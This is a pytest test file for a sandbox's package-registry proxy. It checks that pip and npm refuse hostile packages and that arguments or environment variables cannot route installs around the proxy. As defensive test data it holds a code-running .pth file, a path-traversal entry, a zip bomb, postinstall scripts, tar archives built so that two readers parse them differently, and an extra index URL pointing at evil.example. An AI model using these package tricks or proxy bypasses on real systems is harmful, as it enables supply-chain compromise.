"""Hostile packages, and ways around the registry proxy, with real pip and npm in a cell (PKG)."""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import shutil
from datetime import UTC, datetime, timedelta

import pytest

import cellwall
from conftest import audit_records, need
from registries import serve_registries, write_registry_config

pytestmark = pytest.mark.slow

# The first test below shows on both paths that pip reaches the proxy, and the last but one that nothing
# else does.
decided_by_the_proxy = pytest.mark.only_on(
    "warm", reason="the registry proxy decides, which is outside of both kinds of cells"
)

PIP = "pip install --disable-pip-version-check --no-input -q "
SHOW = "; python3 -c 'import zebra_atlas; print(zebra_atlas.VERSION)'"
NPM = "cd /tmp && npm install --no-audit --no-fund --no-update-notifier "


@pytest.fixture
def registries():
    with serve_registries() as served:
        yield served


@pytest.fixture
def config(tmp_path, registries):
    return write_registry_config(
        tmp_path / "config.toml", registries.base, 'without_feed = "allow"'
    )


@pytest.fixture
def run(config):
    def in_cell(script, *names):
        found = cellwall.run_command(
            ["sh", "-c", script], registries=list(names or ("pypi",)), config=config, timeout=120
        )
        texts = [each.message for each in found.outcome.findings if each.category == "packages"]
        return found, texts

    return in_cell


def files_seen(registries):
    return [path for _, path in registries.seen if path in registries.files]


@pytest.mark.requirement("PKG-1", "PKG-4")
def test_plain_pip_installs_an_allowed_package_and_downloads_it_once(run, registries):
    registries.add_wheel("zebra-atlas", "1.0", requires=["quagga-lines>=1"])
    registries.add_wheel("quagga-lines", "1.5")
    earlier = len(audit_records())  # all warm tests of a worker share a log
    for _ in range(2):
        found, refused = run(PIP + "zebra-atlas" + SHOW)
        assert (found.stdout.strip(), refused) == ("1.0", []), found.outcome
    assert sorted(files_seen(registries)) == [
        "/packages/quagga_lines-1.5-py3-none-any.whl",
        "/packages/zebra_atlas-1.0-py3-none-any.whl",
    ]
    bodies = [record["body"] for record in audit_records()[earlier:]]
    served = [body for body in bodies if body.get("event") == "package-served"]
    # Once for each of the two runs.
    assert sorted(each["package"] for each in served) == sorted(
        2 * ["pkg:pypi/quagga-lines@1.5", "pkg:pypi/zebra-atlas@1.0"]
    )
    listed = {each.name: each.to_json() for each in found.packages}
    assert set(listed) == {"quagga-lines", "zebra-atlas"}
    (entry,) = registries.pypi["zebra-atlas"]["files"]
    assert listed["zebra-atlas"] == {
        "ecosystem": "pypi",
        "name": "zebra-atlas",
        "version": "1.0",
        "sha256": entry["hashes"]["sha256"],
    }
    assert found.outcome.to_json()["packages"] == [each.to_json() for each in found.packages]


@decided_by_the_proxy
@pytest.mark.requirement("PKG-1")
def test_an_older_version_is_installed_where_the_newest_may_not_be(run, registries):
    young = (datetime.now(UTC) - timedelta(hours=3)).isoformat()
    registries.add_wheel("zebra-atlas", "1.0")
    registries.add_wheel("zebra-atlas", "1.1", changes={"yanked": "broken"})
    registries.add_wheel("zebra-atlas", "2.0", uploaded=young)
    found, _ = run(PIP + "zebra-atlas" + SHOW)
    assert found.stdout.strip() == "1.0"
    found, refused = run(PIP + "zebra-atlas==2.0")
    assert found.exit_code != 0
    assert refused == ["zebra-atlas 2.0 is 3 hours old; 1.0 is allowed"]


@decided_by_the_proxy
@pytest.mark.requirement("PKG-1")
def test_a_name_that_does_not_exist_is_answered_with_the_likely_one(run):
    found, refused = run(PIP + "reqeusts")
    assert found.exit_code != 0
    assert refused == ["reqeusts is not on pypi; did you mean requests (rank 6)?"]
    bodies = [
        r["body"]
        for r in audit_records()
        if r["body"].get("event") == "package-refused" and r["action_id"] == found.outcome.action_id
    ]
    (body,) = bodies  # pip asks more than once
    assert (body["name"], body["verdict"], body["suggestion"]) == ("reqeusts", "deny", "requests")
    assert {each["step"] for each in body["reasons"]} == {"feed", "name", "registry"}


HOSTILE = {
    "a .pth file that runs code": ({"x.pth": "import os; os.system('touch /tmp/ran')\n"}, {}),
    "a start-up module": ({"sitecustomize.py": "open('/tmp/ran', 'w')\n"}, {}),
    "a path that leaves the folder": ({"../../../tmp/ran": "x"}, {}),
    "metadata of another package": (
        {},
        {"metadata": "Metadata-Version: 2.1\nName: other\nVersion: 1.0\n"},
    ),
    "a file that is not in RECORD": ({"zebra_atlas.py": "VERSION = 1\n"}, {"record": False}),
    "a bomb": ({"zeros.bin": bytes(40 << 20)}, {}),
}


@decided_by_the_proxy
@pytest.mark.requirement("PKG-1", "PKG-3")
@pytest.mark.parametrize("what", HOSTILE)
@pytest.mark.sample(3)
def test_a_hostile_wheel_is_not_installed_and_the_reason_is_told(run, registries, what):
    files, build = HOSTILE[what]
    registries.add_wheel(
        "zebra-atlas", "1.0", {"zebra_atlas.py": "VERSION = 1\n", **files}, **build
    )
    found, refused = run(PIP + "zebra-atlas; python3 -c pass; ls /tmp/ran")
    assert "/tmp/ran" not in found.stdout
    assert len(refused) == 1, found.stderr


@decided_by_the_proxy
@pytest.mark.requirement("PKG-5")
def test_a_file_that_changed_since_it_was_indexed_is_not_installed(run, registries):
    other = "zebra_atlas.py"
    registries.add_wheel("zebra-atlas", "1.0", served=b"PK other bytes " + other.encode())
    found, _ = run(PIP + "zebra-atlas")
    assert found.exit_code != 0


@decided_by_the_proxy
@pytest.mark.requirement("PKG-2", "PKG-4")
@pytest.mark.parametrize(
    "arguments",
    [
        "--index-url {base}/simple --trusted-host 127.0.0.1 zebra-atlas",
        "--extra-index-url https://evil.example/simple unknown-zebra",
        "{base}/packages/zebra_atlas-2.0-py3-none-any.whl",
        "https://files.pythonhosted.org/packages/zebra_atlas-2.0-py3-none-any.whl",
        "git+https://github.com/example/zebra.git",
        "--find-links {base}/packages zebra-atlas==2.0",
    ],
)
@pytest.mark.sample(3)
def test_no_argument_leads_past_the_proxy(run, registries, arguments):
    young = datetime.now(UTC).isoformat()
    registries.add_wheel("zebra-atlas", "2.0", uploaded=young)
    found, _ = run(PIP + arguments.format(base=registries.base) + SHOW)
    assert "2.0" not in found.stdout
    assert files_seen(registries) == []


@decided_by_the_proxy
@pytest.mark.requirement("PKG-2")
@pytest.mark.parametrize(
    "variables",
    ["PIP_INDEX_URL={base}/simple PIP_TRUSTED_HOST=127.0.0.1", "PIP_NO_PROXY=* NO_PROXY=*", "PIP_CERT=/dev/null"],
)  # fmt: skip
@pytest.mark.sample(1)
def test_no_variable_leads_past_the_proxy(run, registries, variables):
    registries.add_wheel("zebra-atlas", "2.0", uploaded=datetime.now(UTC).isoformat())
    found, _ = run(f"export {variables.format(base=registries.base)}; {PIP} zebra-atlas{SHOW}")
    assert "2.0" not in found.stdout
    assert files_seen(registries) == []


@pytest.mark.requirement("PKG-4")
def test_without_the_option_no_registry_is_reached(registries, config):
    registries.add_wheel("zebra-atlas", "1.0")
    found = cellwall.run_command(["sh", "-c", PIP + "zebra-atlas"], config=config, timeout=60)
    assert found.exit_code != 0
    assert registries.seen == []


@decided_by_the_proxy
@pytest.mark.requirement("PKG-1", "PKG-3")
def test_npm_installs_an_allowed_package_and_not_one_with_an_install_script(run, registries):
    need(shutil.which("npm"), "npm")
    registries.add_npm("@zoo/zebra", "1.0.0", {"index.js": "module.exports = 'striped'\n"})
    registries.add_npm("zoo-keeper", "1.0.0", scripts={"postinstall": "touch /tmp/ran"})
    found, refused = run(NPM + "@zoo/zebra && node -p 'require(\"@zoo/zebra\")'", "npm")
    assert (found.stdout.split()[-1], refused) == ("striped", []), found.stderr
    found, refused = run(NPM + "zoo-keeper; ls /tmp/ran", "npm")
    assert "/tmp/ran" not in found.stdout
    assert refused == ["runs code when it is installed: postinstall"]


def raw_member(name, data, *, kind=b"0", prefix=b""):
    """A member of a tar file; the header is not of the ustar format."""
    fields = bytearray(512)
    fields[: len(name)], fields[345 : 345 + len(prefix)] = name, prefix
    fields[100:136] = b"0000644\0" + b"0000000\0" * 2 + b"%011o\0" % len(data)
    fields[136:157] = b"00000000000\0" + b" " * 8 + kind
    fields[148:156] = b"%06o\0 " % sum(fields)
    return bytes(fields) + data + bytes(-len(data) % 512)


@pytest.mark.requirement("PKG-1")
@pytest.mark.only_on("cold", reason="the inspection is outside of the cell")
def test_npm_gets_no_archive_that_it_reads_in_another_way(run, registries):
    """npm takes the second package.json of each archive; a strict reader of tar sees another name."""
    need(shutil.which("npm"), "npm")
    path, script = b"package/package.json", {"postinstall": "touch /tmp/ran"}
    long, record = b"package/a.js\0", b"29 path=package/package.json\n"
    archives = {
        "ordinary": lambda _: b"",
        "prefix": lambda evil: raw_member(path, evil, prefix=b"y"),
        "two-names": lambda evil: (
            raw_member(b"@LongLink", long, kind=b"L")
            + raw_member(b"p", record, kind=b"x")
            + raw_member(b"package/a.js", evil)
        ),
        "two-folders": lambda evil: raw_member(b"other/package.json", evil),
    }
    for name, second in archives.items():
        good, evil = (
            json.dumps({"name": f"zoo-{name}", "version": "1.0.0", **more}).encode()
            for more in ({}, {"scripts": script})
        )
        data = gzip.compress(raw_member(path, good) + second(evil) + bytes(1024))
        registries.add_npm(f"zoo-{name}", "1.0.0")
        integrity = "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()
        registries.npm[f"zoo-{name}"]["versions"]["1.0.0"]["dist"]["integrity"] = integrity
        registries.files[f"/npm/zoo-{name}/-/zoo-{name}-1.0.0.tgz"] = data
    found, refused = run(NPM + "zoo-ordinary && ls node_modules", "npm")
    assert ("zoo-ordinary" in found.stdout, refused) == (True, []), found.stderr
    for name in list(archives)[1:]:
        found, refused = run(f"{NPM} zoo-{name}; ls /tmp/ran", "npm")
        assert "/tmp/ran" not in found.stdout
        assert len(refused) == 1, found.stderr
        assert "two ways" in refused[0] or "one folder" in refused[0]
